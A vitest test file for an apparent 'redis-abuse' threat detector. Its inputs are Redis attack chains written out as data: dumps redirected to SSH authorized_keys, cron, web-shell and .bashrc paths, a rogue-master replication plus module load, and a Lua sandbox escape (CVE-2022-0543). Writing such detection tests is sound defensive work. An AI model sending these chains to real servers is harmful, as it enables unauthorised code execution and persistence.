import { describe, expect, it } from 'vitest';
import type { RedisCommandEvent } from '#sidecar/events.ts';
import { redisAbuse } from '#sidecar/threats/redis-abuse.ts';
import { flow, runThreat } from './threat-factories.ts';

const redis = (line: string): RedisCommandEvent => {
  const [command = '', ...args] = line.split(' ');
  return {
    kind: 'redis-command',
    ts: 1_000,
    direction: 'to-server',
    command: command.toUpperCase(),
    args,
    seq: 0,
  };
};
const run = (lines: string[], config?: Record<string, unknown>) =>
  runThreat(
    redisAbuse,
    lines.map(redis),
    config === undefined
      ? { flow: flow({ protocol: 'redis' }) }
      : { flow: flow({ protocol: 'redis' }), config },
  );
const stories = (lines: string[], config?: Record<string, unknown>) =>
  run(lines, config).map((h) => [h.severity, h.confidence, h.evidence]);

describe('redis-abuse', () => {
  it('follows the dump-as-file chain: pointing the dump at an SSH key file, then saving it', () => {
    expect(
      stories(['CONFIG SET dir /root/.ssh', 'CONFIG SET dbfilename authorized_keys', 'SET x key', 'SAVE']),
    ).toEqual([
      ['critical', 0.8, 'a client pointed its dump at /root/.ssh/dump.rdb (CONFIG SET)'],
      ['critical', 0.8, 'a client pointed its dump at /root/.ssh/authorized_keys (CONFIG SET)'],
      ['critical', 1, 'a client wrote its dump to /root/.ssh/authorized_keys (SAVE)'],
    ]);
  });

  it.each([
    ['/var/spool/cron/crontabs', 'root'],
    ['/var/www/html', 'shell.php'],
    ['/tmp', 'x.jsp'],
    ['/home/app', '.bashrc'],
  ])('calls a dump written to %s/%s code', (dir, file) => {
    const hits = run([`CONFIG SET dir ${dir}`, `CONFIG SET dbfilename ${file}`, 'BGSAVE']);
    expect(hits.at(-1)?.evidence).toBe(`a client wrote its dump to ${dir}/${file} (BGSAVE)`);
  });

  it('leaves an ordinary dump place and plain saves alone', () => {
    expect(run(['CONFIG SET dir /data', 'CONFIG SET dbfilename dump.rdb', 'SAVE', 'BGSAVE'])).toEqual([]);
    expect(run(['CONFIG SET dir /srv/redis', 'CONFIG SET dbfilename cache.rdb', 'BGSAVE'])).toEqual([]);
    expect(run(['SAVE', 'CONFIG GET dir', 'CONFIG SET maxmemory 100mb'])).toEqual([]);
  });

  it('reports modules loaded, after a rogue master at that, and Lua reaching outside its sandbox', () => {
    expect(stories(['SLAVEOF 203.0.113.9 21000', 'MODULE LOAD ./exp.so'])).toEqual([
      ['medium', 0.6, 'a client made it a replica of 203.0.113.9:21000 (SLAVEOF)'],
      [
        'critical',
        1,
        'a client loaded the module ./exp.so, after replicating from 203.0.113.9:21000 (MODULE LOAD)',
      ],
    ]);
    expect(stories(['REPLICAOF NO ONE', 'MODULE LIST'])).toEqual([]);
    const sandboxEscape =
      'EVAL local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); 0';
    expect(stories([sandboxEscape])).toEqual([
      ['critical', 0.9, 'a client ran Lua that reaches outside its sandbox (EVAL, CVE-2022-0543)'],
    ]);
    expect(run(['EVAL return redis.call("get", KEYS[1]) 1 k'])).toEqual([]);
  });

  it('reports protections turned off at high, and follows the policy', () => {
    expect(stories(['CONFIG SET protected-mode no'])).toEqual([
      ['high', 0.8, 'a client set protected-mode no'],
    ]);
    expect(run(['CONFIG SET protected-mode yes'])).toEqual([]);
    expect(run(['CONFIG SET protected-mode no'], { protections: 'off' })).toEqual([]);
    expect(run(['SLAVEOF 10.0.0.7 6379'], { replication: 'off' })).toEqual([]);
    expect(run(['MODULE LOAD /x.so'], { allowClients: ['10.0.0.5'] })).toEqual([]);
  });
});
